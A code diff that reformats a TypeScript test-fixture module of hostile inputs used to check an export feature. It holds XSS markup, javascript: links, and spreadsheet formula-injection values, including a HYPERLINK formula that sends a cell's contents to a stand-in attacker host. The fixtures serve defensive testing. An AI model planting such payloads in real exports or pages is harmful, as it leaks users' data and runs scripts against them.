@@ -12,7 +12,13 @@ export const HOSTILE_MARKUP = ['<script>alert(1)</script>', '<img src=x onerror=
 export const HOSTILE_LINKS = ['javascript:alert(1)', 'JaVaScRiPt:alert(document.domain)'] as const;
 
 /** Cell values a spreadsheet would evaluate (or a leading tab that hides one). */
-export const HOSTILE_FORMULAS = ['=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")', '+1', '-2', '@SUM(1)', '\t=1+1'] as const;
+export const HOSTILE_FORMULAS = [
+  '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")',
+  '+1',
+  '-2',
+  '@SUM(1)',
+  '\t=1+1',
+] as const;
 
 export const HOSTILE_MARKDOWN = [
   '# heading injected into the export',
@@ -41,7 +47,8 @@ export const HOSTILE_STRINGS: readonly string[] = [
 const HOSTILE_ONE_IN = 37;
 
 /** Whether the item with this id is one of the hostile ones (deterministic). */
-export const isHostileItem = (seed: string, platform: string, id: string): boolean => hashOf(seed, 'hostile', platform, id) % HOSTILE_ONE_IN === 0;
+export const isHostileItem = (seed: string, platform: string, id: string): boolean =>
+  hashOf(seed, 'hostile', platform, id) % HOSTILE_ONE_IN === 0;
 
 export interface HostileText {
   /** Goes first in a title or text, so formula prefixes sit at the start of a CSV cell. */
